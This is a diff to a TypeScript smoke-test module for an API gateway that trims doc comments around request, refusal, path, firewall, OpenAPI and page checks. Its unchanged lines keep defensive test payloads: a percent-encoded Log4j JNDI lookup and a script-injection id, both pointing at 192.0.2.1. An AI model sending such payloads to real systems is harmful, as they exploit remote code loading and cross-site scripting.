@@ -2,7 +2,7 @@ import { gzipSync } from 'node:zlib'
 import type { ClientOptions } from '../../client/options.ts'
 import { type Step, step } from './step.ts'
 
-/** A response with its text and, if that is JSON, the parsed value. */
+/** `json` is undefined for any other text. */
 interface TextResponse {
   readonly status: number
   readonly headers: Headers
@@ -13,7 +13,6 @@ interface TextResponse {
 
 type CredentialHeaders = Readonly<Record<'authorization' | 'x-app-id', string>>
 
-/** Sends a request, and reads the response. */
 const send = async (url: string, request: RequestInit = {}): Promise<TextResponse> => {
   const response = await fetch(url, request)
   const { status, headers } = response
@@ -23,7 +22,7 @@ const send = async (url: string, request: RequestInit = {}): Promise<TextRespons
   return { status, headers, text, json }
 }
 
-/** Returns the condition that a response is an error with this status and this `Allow` header, in the service's envelope. */
+/** In the service's envelope. */
 const isError =
   (expected: number, allow: string | null = null) =>
   ({ status, headers, json }: TextResponse): boolean =>
@@ -43,7 +42,6 @@ const signatureHeaders = {
   'x-amz-date': '20260101T000000Z',
 }
 
-/** Returns steps with requests that are refused. */
 const refusalSteps = (baseUrl: string, credentials: CredentialHeaders): Step[] => {
   const unknownPath = `${baseUrl}/api/nothing`
   const post = (headers: Record<string, string>, body: string | Buffer<ArrayBuffer>) => () =>
@@ -95,7 +93,6 @@ const refusalSteps = (baseUrl: string, credentials: CredentialHeaders): Step[] =
   ]
 }
 
-/** Returns steps with unusual paths, and with a request id. */
 const pathSteps = (baseUrl: string, credentials: CredentialHeaders): Step[] => {
   const headers = { ...credentials, 'x-request-id': 'smoke-test' }
   const hasSentId = (response: TextResponse) =>
@@ -121,7 +118,7 @@ const suspiciousId = encodeURIComponent('http://192.0.2.1/<script>alert(1)</scri
 /** The Log4j attack ${jndi:ldap://192.0.2.1/a}, percent-encoded. */
 const log4jAttack = '%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D'
 
-/** Returns steps with requests that the firewall must let through, or may block. */
+/** The firewall must let these through, or may block them. */
 const firewallSteps = (baseUrl: string, credentials: CredentialHeaders): Step[] => {
   const get = (path: string) => () => send(`${baseUrl}/api/${path}`, { headers: credentials })
   return [
@@ -135,7 +132,6 @@ const firewallSteps = (baseUrl: string, credentials: CredentialHeaders): Step[] 
   ]
 }
 
-/** Returns the steps for the OpenAPI document. */
 const documentSteps = (baseUrl: string): Step[] => {
   const url = `${baseUrl}/openapi.json`
   const isDocument = ({ status, headers, json }: TextResponse): boolean =>
@@ -154,8 +150,8 @@ const documentSteps = (baseUrl: string): Step[] => {
 }
 
 /**
- * Returns the steps for the pages, which are 404 unless the stage serves them. If a script is readable, the gateway decodes the
- * base64 of compressed responses.
+ * They are 404 unless the stage serves the pages. If a script is readable, the gateway decodes the base64 of
+ * compressed responses.
  */
 const pageSteps = (baseUrl: string): Step[] => {
   const files = [
@@ -181,7 +177,7 @@ const pageSteps = (baseUrl: string): Step[] => {
   })
 }
 
-/** Returns the steps that test the gateway, which only a deployment has. */
+/** Only a deployment has the gateway. */
 export const gatewaySteps = ({ baseUrl, appId, apiKey }: ClientOptions): Step[] => {
   const credentials = { authorization: `Bearer ${apiKey}`, 'x-app-id': appId }
   return [
